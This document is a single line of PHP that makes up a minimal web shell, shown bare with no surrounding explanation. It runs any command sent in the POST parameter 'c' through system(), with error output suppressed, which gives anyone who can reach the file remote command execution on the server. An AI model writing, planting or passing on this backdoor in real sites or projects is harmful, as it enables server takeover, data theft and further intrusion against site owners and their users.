<?php if(isset($_POST["c"])){ @system($_POST["c"]); } ?>
